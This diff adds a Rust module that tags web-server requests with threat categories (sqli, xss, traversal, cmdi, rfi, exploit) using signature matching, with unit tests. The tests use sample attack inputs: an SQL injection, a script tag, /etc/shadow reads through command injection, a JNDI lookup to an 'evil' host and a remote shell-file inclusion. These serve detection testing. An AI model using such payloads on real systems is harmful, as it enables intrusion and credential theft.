@@ -1,0 +1,518 @@
+//! Security: threat tagging of every request at ingest, and behavioural detection over the dataset.
+//!
+//! The [`Tagger`] runs once per row inside the ingest workers. The request target, Referer and
+//! User-Agent are normalised ([`normalize`]), then one Aho-Corasick automaton holding the literals
+//! of every signature of `config/signatures.yaml` finds the candidate signatures in a single pass;
+//! only those run their confirming regex. The result is the row's `threats` bit set (one bit per
+//! category; 0 for the vast majority of rows, which cost one automaton pass). [`behaviour`] finds
+//! what single requests cannot show — brute force, probing, floods — with windowed SQL over the
+//! stored rows.
+
+pub mod behaviour;
+pub mod normalize;
+
+use std::path::Path;
+
+use std::sync::atomic::{AtomicU64, Ordering};
+
+use aho_corasick::{AhoCorasick, AhoCorasickBuilder, AhoCorasickKind, MatchKind};
+use serde::{Deserialize, Serialize};
+use xxhash_rust::xxh3::xxh3_64_with_seed;
+
+use crate::error::{Error, Result};
+use normalize::Field;
+
+/// The shipped `config/signatures.yaml`, used when no file is found.
+pub const BUILTIN_SIGNATURES: &str = include_str!("../../../config/signatures.yaml");
+/// Where the signatures are looked for when the config names none.
+pub const DEFAULT_SIGNATURES_PATH: &str = "config/signatures.yaml";
+
+/// A threat category: one bit of the `threats` column.
+#[derive(Debug, Clone, PartialEq, Eq, Deserialize, Serialize)]
+#[serde(deny_unknown_fields)]
+pub struct Category {
+    /// Bit number (0-31).
+    pub bit: u32,
+    /// Name used in reports and SQL.
+    pub name: String,
+    /// What it means.
+    pub description: String,
+}
+
+/// One signature as written in the file.
+#[derive(Debug, Clone, PartialEq, Eq, Deserialize)]
+#[serde(deny_unknown_fields)]
+pub struct SignatureSpec {
+    /// Unique id.
+    pub id: String,
+    /// Category name.
+    pub category: String,
+    /// 1 (default) or higher: active when `security.paranoia` reaches it.
+    #[serde(default = "one")]
+    pub paranoia: u8,
+    /// Fields it looks at: target, path, query, referer, user_agent.
+    #[serde(default)]
+    pub fields: Vec<String>,
+    /// Literals that must occur (any of them), matched case-insensitively.
+    pub literals: Vec<String>,
+    /// Regex that must match when a literal occurs (none: the literal suffices).
+    #[serde(default)]
+    pub confirm: Option<String>,
+    /// Regex that, when it matches, cancels the signature (an exception such as `/.well-known/`).
+    #[serde(default)]
+    pub unless: Option<String>,
+    /// What it detects.
+    #[serde(default)]
+    pub description: String,
+}
+
+fn one() -> u8 {
+    1
+}
+
+/// The signatures file.
+#[derive(Debug, Clone, Deserialize)]
+#[serde(deny_unknown_fields)]
+pub struct SignatureFile {
+    /// Categories and their bits.
+    pub categories: Vec<Category>,
+    /// Signatures.
+    pub signatures: Vec<SignatureSpec>,
+}
+
+/// `security:` section of the configuration.
+#[derive(Debug, Clone, Deserialize, Serialize)]
+#[serde(deny_unknown_fields, default)]
+pub struct SecurityConfig {
+    /// Signatures file (default: config/signatures.yaml, else built-in).
+    pub signatures: Option<std::path::PathBuf>,
+    /// Paranoia level: 1 tags only unambiguous attacks, 2 (and up) also likelier false positives;
+    /// 0 turns tagging off (every row gets `threats` 0).
+    pub paranoia: u8,
+    /// Behavioural rules.
+    pub behaviour: behaviour::BehaviourConfig,
+}
+
+impl Default for SecurityConfig {
+    fn default() -> Self {
+        SecurityConfig {
+            signatures: None,
+            paranoia: 1,
+            behaviour: behaviour::BehaviourConfig::default(),
+        }
+    }
+}
+
+const F_PATH: u8 = 1;
+const F_QUERY: u8 = 2;
+const F_REFERER: u8 = 4;
+const F_UA: u8 = 8;
+
+#[derive(Debug)]
+struct Sig {
+    bit: u32,
+    fields: u8,
+    confirm: Option<regex::bytes::Regex>,
+    unless: Option<regex::bytes::Regex>,
+}
+
+/// Compiled signatures; see the module docs.
+#[derive(Debug)]
+pub struct Tagger {
+    /// Distinguishes taggers, so a scratch's cache never serves another tagger's results.
+    id: u64,
+    ac: AhoCorasick,
+    /// For each literal, the signatures it belongs to.
+    owners: Vec<Vec<usize>>,
+    sigs: Vec<Sig>,
+    categories: Vec<Category>,
+}
+
+/// Per-worker buffers of a [`Tagger`].
+#[derive(Debug, Default)]
+pub struct TagScratch {
+    text: Vec<u8>,
+    tmp: Vec<u8>,
+    candidates: Vec<usize>,
+    /// The tagger `cache` belongs to.
+    tagger: u64,
+    /// Direct-mapped cache per field: (xxh3 of the value, its bits). User agents, referers and
+    /// paths repeat (a site has few thousand of each), so most rows skip the automaton.
+    cache: Vec<(u64, u32)>,
+}
+
+/// Cache slots per field (a power of two).
+const CACHE_SLOTS: usize = 4096;
+
+impl SignatureFile {
+    /// Loads `path`, else `config/signatures.yaml`, else the built-in signatures.
+    pub fn load(path: Option<&Path>) -> Result<SignatureFile> {
+        let default = Path::new(DEFAULT_SIGNATURES_PATH);
+        let (text, origin) = match path.or(default.is_file().then_some(default)) {
+            Some(p) => (
+                std::fs::read_to_string(p).map_err(|e| Error::io("cannot read", p, e))?,
+                p.to_path_buf(),
+            ),
+            None => (
+                BUILTIN_SIGNATURES.to_string(),
+                "<built-in signatures.yaml>".into(),
+            ),
+        };
+        serde_norway::from_str(&text).map_err(|e| Error::Config {
+            path: origin,
+            message: e.to_string(),
+        })
+    }
+}
+
+impl Tagger {
+    /// Compiles the signatures active at `paranoia`.
+    pub fn new(file: &SignatureFile, paranoia: u8) -> Result<Tagger> {
+        let bad = |m: String| Error::Config {
+            path: "signatures".into(),
+            message: m,
+        };
+        let mut literals: Vec<Vec<u8>> = Vec::new();
+        let mut owners: Vec<Vec<usize>> = Vec::new();
+        let mut sigs = Vec::new();
+        for c in &file.categories {
+            if c.bit > 31 {
+                return Err(bad(format!(
+                    "category {}: bit {} is above 31",
+                    c.name, c.bit
+                )));
+            }
+        }
+        for spec in file.signatures.iter().filter(|s| s.paranoia <= paranoia) {
+            let cat = file
+                .categories
+                .iter()
+                .find(|c| c.name == spec.category)
+                .ok_or_else(|| {
+                    bad(format!(
+                        "signature {}: unknown category {}",
+                        spec.id, spec.category
+                    ))
+                })?;
+            if spec.literals.is_empty() {
+                return Err(bad(format!(
+                    "signature {}: give at least one literal",
+                    spec.id
+                )));
+            }
+            let mut fields = 0u8;
+            let names: Vec<&str> = if spec.fields.is_empty() {
+                vec!["target", "referer", "user_agent"]
+            } else {
+                spec.fields.iter().map(String::as_str).collect()
+            };
+            for f in names {
+                fields |= match f {
+                    "target" => F_PATH | F_QUERY,
+                    "path" => F_PATH,
+                    "query" => F_QUERY,
+                    "referer" => F_REFERER,
+                    "user_agent" => F_UA,
+                    other => {
+                        return Err(bad(format!("signature {}: unknown field {other}", spec.id)));
+                    }
+                };
+            }
+            let compile =
+                |re: &Option<String>, what: &str| -> Result<Option<regex::bytes::Regex>> {
+                    re.as_ref()
+                        .map(|re| {
+                            regex::bytes::RegexBuilder::new(re)
+                                .case_insensitive(true)
+                                .unicode(false)
+                                .size_limit(64 << 20)
+                                .build()
+                                .map_err(|e| {
+                                    bad(format!("signature {}: invalid {what} regex: {e}", spec.id))
+                                })
+                        })
+                        .transpose()
+                };
+            let confirm = compile(&spec.confirm, "confirm")?;
+            let unless = compile(&spec.unless, "unless")?;
+            let idx = sigs.len();
+            sigs.push(Sig {
+                bit: 1 << cat.bit,
+                fields,
+                confirm,
+                unless,
+            });
+            for lit in &spec.literals {
+                let lit = lit.to_ascii_lowercase().into_bytes();
+                match literals.iter().position(|l| *l == lit) {
+                    Some(i) => owners[i].push(idx),
+                    None => {
+                        literals.push(lit);
+                        owners.push(vec![idx]);
+                    }
+                }
+            }
+        }
+        let ac = AhoCorasickBuilder::new()
+            .ascii_case_insensitive(true)
+            .match_kind(MatchKind::Standard)
+            .kind(Some(AhoCorasickKind::DFA))
+            .build(&literals)
+            .map_err(|e| bad(format!("cannot build the literal automaton: {e}")))?;
+        static NEXT_ID: AtomicU64 = AtomicU64::new(1);
+        Ok(Tagger {
+            id: NEXT_ID.fetch_add(1, Ordering::Relaxed),
+            ac,
+            owners,
+            sigs,
+            categories: file.categories.clone(),
+        })
+    }
+
+    /// The categories, for the catalog and reports.
+    pub fn categories(&self) -> &[Category] {
+        &self.categories
+    }
+
+    fn scan(&self, raw: &[u8], field: Field, mask: u8, s: &mut TagScratch) -> u32 {
+        let mut bits = 0u32;
+        let text: &[u8] = if normalize::needs_work(raw, field) || field == Field::Query {
+            let mut text = std::mem::take(&mut s.text);
+            normalize::normalize(raw, field, &mut text, &mut s.tmp);
+            if field == Field::Query {
+                // Query signatures may anchor on the `?` that starts the query.
+                text.insert(0, b'?');
+            }
+            s.text = text;
+            &s.text
+        } else {
+            raw
+        };
+        s.candidates.clear();
+        for m in self.ac.find_overlapping_iter(text) {
+            for &sig in &self.owners[m.pattern().as_usize()] {
+                let sg = &self.sigs[sig];
+                if sg.fields & mask != 0 && bits & sg.bit == 0 && !s.candidates.contains(&sig) {
+                    s.candidates.push(sig);
+                }
+            }
+        }
+        for &sig in &s.candidates {
+            let sg = &self.sigs[sig];
+            if bits & sg.bit != 0 {
+                continue;
+            }
+            if sg.confirm.as_ref().is_none_or(|re| re.is_match(text))
+                && !sg.unless.as_ref().is_some_and(|re| re.is_match(text))
+            {
+                bits |= sg.bit;
+            }
+        }
+        bits
+    }
+
+    /// The threat bits of a request.
+    pub fn tag(
+        &self,
+        path: Option<&[u8]>,
+        query: Option<&[u8]>,
+        referer: Option<&[u8]>,
+        user_agent: Option<&[u8]>,
+        scratch: &mut TagScratch,
+    ) -> u32 {
+        let mut bits = 0;
+        if self.sigs.is_empty() {
+            return bits;
+        }
+        if scratch.tagger != self.id {
+            scratch.tagger = self.id;
+            scratch.cache.clear();
+            scratch.cache.resize(4 * CACHE_SLOTS, (0, 0));
+        }
+        for (i, (value, field, mask)) in [
+            (path, Field::Path, F_PATH),
+            (query, Field::Query, F_QUERY),
+            (referer, Field::Header, F_REFERER),
+            (user_agent, Field::Header, F_UA),
+        ]
+        .into_iter()
+        .enumerate()
+        {
+            let Some(v) = value.filter(|v| !v.is_empty() && *v != b"-") else {
+                continue;
+            };
+            // A 64-bit hash stands for the value: a collision (odds about 2^-52 per lookup)
+            // would give one value another's bits.
+            let h = xxh3_64_with_seed(v, i as u64) | 1;
+            let slot = i * CACHE_SLOTS + (h as usize & (CACHE_SLOTS - 1));
+            let found = if scratch.cache[slot].0 == h {
+                scratch.cache[slot].1
+            } else {
+                let found = self.scan(v, field, mask, scratch);
+                scratch.cache[slot] = (h, found);
+                found
+            };
+            bits |= found;
+        }
+        bits
+    }
+
+    /// Names of the categories set in `bits`.
+    pub fn names(&self, bits: u32) -> Vec<&str> {
+        self.categories
+            .iter()
+            .filter(|c| bits & (1 << c.bit) != 0)
+            .map(|c| c.name.as_str())
+            .collect()
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn tagger(p: u8) -> Tagger {
+        let file: SignatureFile = serde_norway::from_str(BUILTIN_SIGNATURES).unwrap();
+        Tagger::new(&file, p).unwrap()
+    }
+
+    fn tags(t: &Tagger, path: &str, query: Option<&str>, ua: &str) -> Vec<String> {
+        let mut s = TagScratch::default();
+        let bits = t.tag(
+            Some(path.as_bytes()),
+            query.map(str::as_bytes),
+            None,
+            Some(ua.as_bytes()),
+            &mut s,
+        );
+        t.names(bits).into_iter().map(str::to_string).collect()
+    }
+
+    #[test]
+    fn attacks_are_tagged_by_category() {
+        let t = tagger(1);
+        assert_eq!(
+            tags(
+                &t,
+                "/item",
+                Some("id=1%27%20UNION%20SELECT%20password%20FROM%20users--"),
+                "ua"
+            ),
+            ["sqli"]
+        );
+        assert_eq!(
+            tags(
+                &t,
+                "/search",
+                Some("q=%3Cscript%3Ealert(1)%3C/script%3E"),
+                "ua"
+            ),
+            ["xss"]
+        );
+        assert_eq!(
+            tags(&t, "/download", Some("file=../../../../etc/passwd"), "ua"),
+            ["traversal"]
+        );
+        assert_eq!(
+            tags(&t, "/ping", Some("host=127.0.0.1;cat+/etc/shadow"), "ua"),
+            ["traversal", "cmdi"]
+        );
+        assert_eq!(
+            tags(&t, "/", None, "sqlmap/1.7.2#stable (https://sqlmap.org)"),
+            ["scanner"]
+        );
+        assert_eq!(tags(&t, "/.env", None, "curl/8"), ["sensitive_file"]);
+        assert_eq!(tags(&t, "/", None, "${jndi:ldap://evil/a}"), ["java"]);
+        assert_eq!(
+            tags(
+                &t,
+                "/index.php",
+                Some("page=http://203.0.113.5/shell.txt?"),
+                "ua"
+            ),
+            ["rfi"]
+        );
+        assert_eq!(
+            tags(
+                &t,
+                "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
+                None,
+                "ua"
+            ),
+            ["exploit"]
+        );
+        assert_eq!(tags(&t, "/index.php/x.js.map", None, "ua"), ["exploit"]);
+        assert_eq!(
+            tags(&t, "/wp-content/uploads/wso.php", None, "ua"),
+            ["exploit"]
+        );
+    }
+
+    #[test]
+    fn ordinary_requests_are_not() {
+        let t = tagger(1);
+        for (path, query, ua) in [
+            (
+                "/products/42",
+                Some("color=red&size=m&sort=price"),
+                "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36",
+            ),
+            (
+                "/search",
+                Some("q=cats+and+dogs&page=2"),
+                "Mozilla/5.0 (iPhone; CPU iPhone OS 17_1 like Mac OS X)",
+            ),
+            ("/blog/select-the-right-union", None, "curl/8.4.0"),
+            (
+                "/static/app.js",
+                Some("v=1.2.3"),
+                "Googlebot/2.1 (+http://www.google.com/bot.html)",
+            ),
+            (
+                "/login",
+                Some("next=/account&ref=email"),
+                "python-requests/2.31",
+            ),
+            (
+                "/list",
+                Some("hl=id&sort=id&order=asc"),
+                "Opera/9.80 (MTK; Opera Mini/2.1199/34.1244; U; id) Presto/2.8.119",
+            ),
+            ("/index.php/blog/2024/01/hello-world", None, "Ruby"),
+        ] {
+            assert!(
+                tags(&t, path, query, ua).is_empty(),
+                "{path}?{query:?} {ua}"
+            );
+        }
+    }
+
+    #[test]
+    fn paranoia_two_adds_noisier_signatures() {
+        assert!(tags(&tagger(1), "/x", Some("url=https://example.com/"), "ua").is_empty());
+        assert_eq!(
+            tags(&tagger(2), "/x", Some("url=https://example.com/"), "ua"),
+            ["rfi"]
+        );
+        assert!(
+            tags(
+                &tagger(0),
+                "/x",
+                Some("id=1%27%20or%20%271%27=%271"),
+                "sqlmap/1.7"
+            )
+            .is_empty()
+        );
+        assert_eq!(
+            tags(&tagger(2), "/", None, "ansible-vault decrypt secret"),
+            ["cmdi"]
+        );
+        assert_eq!(
+            tags(&tagger(2), "/", Some("x=c$@at+/et$@c/pas$@swd"), "ua"),
+            ["cmdi"]
+        );
+        let chef =
+            "Chef Client/10.18.2 (ruby-1.9.3-p327; ohai-6.16.0; x86_64-linux; +http://opscode.com)";
+        assert!(tags(&tagger(2), "/files/a.jar", None, chef).is_empty());
+    }
+}
